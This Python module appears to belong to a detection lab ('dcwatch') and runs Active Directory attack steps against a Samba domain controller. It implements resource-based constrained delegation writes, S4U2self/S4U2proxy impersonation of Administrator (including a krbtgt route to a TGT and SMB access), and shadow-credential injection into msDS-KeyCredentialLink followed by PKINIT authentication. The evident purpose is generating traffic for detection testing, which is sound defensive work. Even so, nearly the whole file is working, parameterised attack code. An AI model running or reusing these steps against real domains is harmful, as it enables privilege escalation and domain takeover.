"""RBCD and key-credential attack steps of the dcwatch lab (they need Samba 4.19+: `python3
lab/run.py --samba backports`), run inside a workstation namespace like lab/attacks.py:

    ip netns exec dcw-ws1 /var/lib/dcwatch-lab/venv/bin/python -m lab.attacks_rbcd STEP ...

LDAP writes use a simple bind on 389 (Samba: "ldap server require strong auth = no") so that the
DC's capture shows them, as the other lab steps do. Every step prints one line per observable
result; refusals are reported, not raised.
"""

from __future__ import annotations

import argparse
import datetime
import hashlib
import os
import struct
import subprocess
import sys
import uuid

from lab import attacks as base  # also applies lab.impacket_patches
from lab.attacks import FQDN_DOMAIN, REALM, WORK, krb_error, out
from lab.attacks_dominance import BASE_DN, ldap, pa_for_user, result, tgs_req

RBCD_ATTR = "msDS-AllowedToActOnBehalfOfOtherIdentity"
KCL_ATTR = "msDS-KeyCredentialLink"


def find_dn(conn, sam: str) -> tuple[str, str]:
    """(DN, SID) of the account with sAMAccountName `sam`."""
    from impacket.ldap.ldaptypes import LDAP_SID

    conn.search(BASE_DN, f"(sAMAccountName={sam})", attributes=["objectSid"])
    e = next(r for r in conn.response if r.get("type") == "searchResEntry")
    return e["dn"], LDAP_SID(e["raw_attributes"]["objectSid"][0]).formatCanonical()


def rbcd_descriptor(sid: str) -> bytes:
    """The security descriptor rbcd.py writes: owner BUILTIN\\Administrators, a DACL with one
    ACCESS_ALLOWED ACE (0xF01FF) for the principal allowed to delegate (impacket
    examples/rbcd.py create_empty_sd + create_allow_ace)."""
    from impacket.ldap import ldaptypes

    sd = ldaptypes.SR_SECURITY_DESCRIPTOR()
    sd["Revision"] = b"\x01"
    sd["Sbz1"] = b"\x00"
    sd["Control"] = 32772  # SE_DACL_PRESENT | SE_SELF_RELATIVE
    sd["OwnerSid"] = ldaptypes.LDAP_SID()
    sd["OwnerSid"].fromCanonical("S-1-5-32-544")
    sd["GroupSid"] = b""
    sd["Sacl"] = b""
    acl = ldaptypes.ACL()
    acl["AclRevision"] = 4
    acl["Sbz1"] = 0
    acl["Sbz2"] = 0
    nace = ldaptypes.ACE()
    nace["AceType"] = ldaptypes.ACCESS_ALLOWED_ACE.ACE_TYPE
    nace["AceFlags"] = 0x00
    acedata = ldaptypes.ACCESS_ALLOWED_ACE()
    acedata["Mask"] = ldaptypes.ACCESS_MASK()
    acedata["Mask"]["Mask"] = 983551  # full control
    acedata["Sid"] = ldaptypes.LDAP_SID()
    acedata["Sid"].fromCanonical(sid)
    nace["Ace"] = acedata
    acl.aces = [nace]
    sd["Dacl"] = acl
    return sd.getData()


def step_rbcd_write(args):
    """rbcd.py -action write -delegate-from FROM -delegate-to TARGET as --user: read the
    target's RBCD attribute, then replace it with a descriptor allowing FROM."""
    import ldap3

    conn = ldap(args.user, args.password)
    out(f"LDAP simple bind as {args.user}: {conn.result['description']}")
    target_dn = find_dn(conn, args.target)[0]
    _from_dn, from_sid = find_dn(conn, args.delegate_from)
    conn.search(target_dn, "(objectClass=*)", search_scope="BASE", attributes=[RBCD_ATTR])
    old = conn.response[0].get("raw_attributes", {}).get(RBCD_ATTR) or []
    out(f"{RBCD_ATTR} of {args.target} before: {'set' if old else 'empty'}")
    conn.modify(target_dn, {RBCD_ATTR: [(ldap3.MODIFY_REPLACE, [rbcd_descriptor(from_sid)])]})
    ok = result(conn, f"{args.user} writes {RBCD_ATTR} of {target_dn} (allow {args.delegate_from}"
                f" {from_sid})")
    if ok:
        conn.search(target_dn, "(objectClass=*)", search_scope="BASE", attributes=[RBCD_ATTR])
        now = conn.response[0].get("raw_attributes", {}).get(RBCD_ATTR) or []
        out(f"read back: {len(now)} value(s)")
    conn.unbind()


def step_rbcd_clear(args):
    """rbcd.py -action flush: remove the RBCD attribute of --target again."""
    import ldap3

    conn = ldap(args.user, args.password)
    target_dn = find_dn(conn, args.target)[0]
    conn.modify(target_dn, {RBCD_ATTR: [(ldap3.MODIFY_DELETE, [])]})
    result(conn, f"{args.user} clears {RBCD_ATTR} of {target_dn}")
    conn.unbind()


def _s4u(args, service: str):
    """getST.py -impersonate: TGT for --user, S4U2self for --impersonate, S4U2proxy to
    `service` with the S4U2self ticket. Returns (TGS-REP, session key) of the proxy ticket."""
    from impacket.krb5 import constants
    from impacket.krb5.asn1 import PA_PAC_OPTIONS, TGS_REP
    from impacket.krb5.kerberosv5 import KerberosError
    from impacket.krb5.types import Principal
    from pyasn1.codec.der import decoder, encoder

    t = base.tgt(args.user, args.password)
    out(f"TGT for {args.user} (AES, pre-auth): etype {int(t[3].enctype)}")
    tgt_rep, cipher, session_key = t[0], t[1], t[3]
    KO = constants.KDCOptions
    opts = [KO.forwardable.value, KO.renewable.value, KO.canonicalize.value]
    me = Principal(args.user, type=constants.PrincipalNameType.NT_UNKNOWN.value)
    try:
        rep, _key = tgs_req(tgt_rep, cipher, session_key, me, opts,
                            extra_padata=[pa_for_user(session_key, args.impersonate)])
        st = decoder.decode(rep, asn1Spec=TGS_REP())[0]
        out(f"S4U2self as {args.impersonate} to {args.user}: ok")
    except KerberosError as e:
        out(f"S4U2self as {args.impersonate} to {args.user}: {krb_error(e)}")
        return None
    svc = Principal(service, type=constants.PrincipalNameType.NT_SRV_INST.value)
    # PA-PAC-OPTIONS with the resource-based-constrained-delegation bit (MS-KILE 2.2.10), as
    # getST.py and Windows send it: without it the KDC only tries classic delegation
    pac_options = PA_PAC_OPTIONS()
    pac_options["flags"] = constants.encodeFlags(
        (constants.PAPacOptions.resource_based_constrained_delegation.value,))
    try:
        prep, pkey = tgs_req(tgt_rep, cipher, session_key, svc,
                             [*opts, KO.cname_in_addl_tkt.value],
                             extra_padata=[(int(constants.PreAuthenticationDataTypes
                                                .PA_PAC_OPTIONS.value),
                                            encoder.encode(pac_options))],
                             additional_tickets=[st["ticket"]])
        out(f"S4U2proxy as {args.impersonate} to {service}: ok")
        return prep, pkey
    except KerberosError as e:
        out(f"S4U2proxy as {args.impersonate} to {service}: {krb_error(e)}")
        return None


def step_s4u(args):
    """S4U2self + S4U2proxy to --spn through the RBCD just written."""
    _s4u(args, args.spn)


def step_s4u_krbtgt(args):
    """RBCD on krbtgt used: S4U2proxy to krbtgt/REALM yields a TGT for --impersonate, which is
    then used for TGS-REQs (cifs/, ldap/ on the DC) and an SMB session."""
    from impacket.krb5.crypto import _enctype_table

    got = _s4u(args, f"krbtgt/{REALM}")
    if got is None:
        return
    rep, key = got
    tdict = {"KDC_REP": rep, "cipher": _enctype_table[int(key.enctype)], "sessionKey": key}
    for spn in (f"cifs/dc01.{FQDN_DOMAIN}", f"ldap/dc01.{FQDN_DOMAIN}"):
        try:
            base.tgs(tdict, spn)
            out(f"TGS with the S4U2proxy TGT for {spn}: ok")
        except Exception as e:  # noqa: BLE001
            out(f"TGS with the S4U2proxy TGT for {spn}: {krb_error(e)}")
    try:
        conn = base.smb(user=args.impersonate, kerberos_tgt=tdict)
        shares = [s["shi1_netname"][:-1] for s in conn.listShares()]
        out(f"SMB as {args.impersonate} with the TGT: shares {shares}")
        conn.logoff()
    except Exception as e:  # noqa: BLE001
        out(f"SMB with the S4U2proxy TGT: {krb_error(e)}")


# --------------------------------------------------------------------------- shadow credentials


def _entry(ident: int, value: bytes) -> bytes:
    """KEYCREDENTIALLINK_ENTRY (MS-ADTS 2.2.20.3): Length (2, LE), Identifier (1), Value."""
    return struct.pack("<HB", len(value), ident) + value


def _filetime(t: datetime.datetime) -> bytes:
    return struct.pack("<Q", int((t.timestamp() + 11644473600) * 10_000_000))


def key_credential(public_key, device_id: uuid.UUID) -> bytes:
    """KEYCREDENTIALLINK_BLOB (MS-ADTS 2.2.20.2) as Whisker / pyWhisker (DSInternals) build it:
    version 0x200; KeyID = SHA-256 of KeyMaterial; KeyHash = SHA-256 of the entries after it;
    KeyMaterial = BCRYPT_RSAKEY_BLOB of the public key; KeyUsage NGC (1); KeySource AD (0);
    DeviceId; CustomKeyInformation (version 1, flags 0); last-logon and creation times."""
    nums = public_key.public_numbers()
    e = nums.e.to_bytes((nums.e.bit_length() + 7) // 8, "big")
    n = nums.n.to_bytes((nums.n.bit_length() + 7) // 8, "big")
    material = struct.pack("<IIIIII", 0x31415352, public_key.key_size, len(e), len(n), 0, 0) \
        + e + n  # BCRYPT_RSAPUBLIC_MAGIC 'RSA1'
    now = datetime.datetime.now(datetime.UTC)
    rest = (_entry(0x03, material) + _entry(0x04, b"\x01") + _entry(0x05, b"\x00")
            + _entry(0x06, device_id.bytes_le) + _entry(0x07, b"\x01\x00")
            + _entry(0x08, _filetime(now)) + _entry(0x09, _filetime(now)))
    return (struct.pack("<I", 0x200) + _entry(0x01, hashlib.sha256(material).digest())
            + _entry(0x02, hashlib.sha256(rest).digest()) + rest)


def step_shadow_credentials(args):
    """pywhisker.py --action add --target TARGET as --user: a new RSA key and self-signed
    certificate, its KeyCredential appended to the target's msDS-KeyCredentialLink (DN-Binary
    value B:<hex length>:<hex>:<target DN>); then a PKINIT AS-REQ as the target with that key
    (MIT kinit -X X509_user_identity, as gettgtpkinit.py would)."""
    import ldap3
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import rsa
    from cryptography.x509.oid import NameOID

    conn = ldap(args.user, args.password)
    out(f"LDAP simple bind as {args.user}: {conn.result['description']}")
    target_dn = find_dn(conn, args.target)[0]
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, args.target)])
    now = datetime.datetime.now(datetime.UTC)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
            .public_key(key.public_key()).serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(days=1))
            .not_valid_after(now + datetime.timedelta(days=365))
            .sign(key, hashes.SHA256()))
    device = uuid.uuid4()
    blob = key_credential(key.public_key(), device)
    value = f"B:{len(blob) * 2}:{blob.hex().upper()}:{target_dn}"
    conn.search(target_dn, "(objectClass=*)", search_scope="BASE", attributes=[KCL_ATTR])
    old = conn.response[0].get("raw_attributes", {}).get(KCL_ATTR) or []
    out(f"{KCL_ATTR} of {args.target} before: {len(old)} value(s)")
    conn.modify(target_dn, {KCL_ATTR: [(ldap3.MODIFY_ADD, [value])]})
    ok = result(conn, f"{args.user} adds a KeyCredential (DeviceID {device}) to {KCL_ATTR} of "
                f"{target_dn}")
    conn.unbind()
    if not ok:
        return
    pem_cert = WORK / f"{args.target}.pkinit.crt"
    pem_key = WORK / f"{args.target}.pkinit.key"
    pem_cert.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    pem_key.write_bytes(key.private_bytes(serialization.Encoding.PEM,
                                          serialization.PrivateFormat.TraditionalOpenSSL,
                                          serialization.NoEncryption()))
    os.chmod(pem_key, 0o600)
    cc = WORK / f"{args.target}.pkinit.cc"
    env = dict(os.environ, KRB5CCNAME=f"FILE:{cc}", KRB5_TRACE="/dev/stderr")
    r = subprocess.run(
        ["kinit", "-X", f"X509_user_identity=FILE:{pem_cert},{pem_key}",
         "-X", "X509_anchors=FILE:" + str(pem_cert), f"{args.target}@{REALM}"],
        env=env, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60)
    trace = [line.split(": ", 1)[-1] for line in r.stderr.splitlines()
             if "Produced preauth" in line or "Received error from KDC" in line]
    out(f"PKINIT as {args.target} with the new key (MIT kinit -X X509_user_identity): "
        + " / ".join(trace) + f" -> {'TGT issued' if r.returncode == 0 else 'no TGT'}")


STEPS = {name[5:]: fn for name, fn in globals().items() if name.startswith("step_")}


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(prog="python -m lab.attacks_rbcd")
    ap.add_argument("step", choices=sorted(STEPS))
    ap.add_argument("--user", default="")
    ap.add_argument("--password", default="")
    ap.add_argument("--target", default="")
    ap.add_argument("--delegate-from", default="")
    ap.add_argument("--impersonate", default="Administrator")
    ap.add_argument("--spn", default="")
    args = ap.parse_args(argv)
    WORK.mkdir(parents=True, exist_ok=True)
    STEPS[args.step](args)
    return 0


if __name__ == "__main__":
    sys.exit(main())
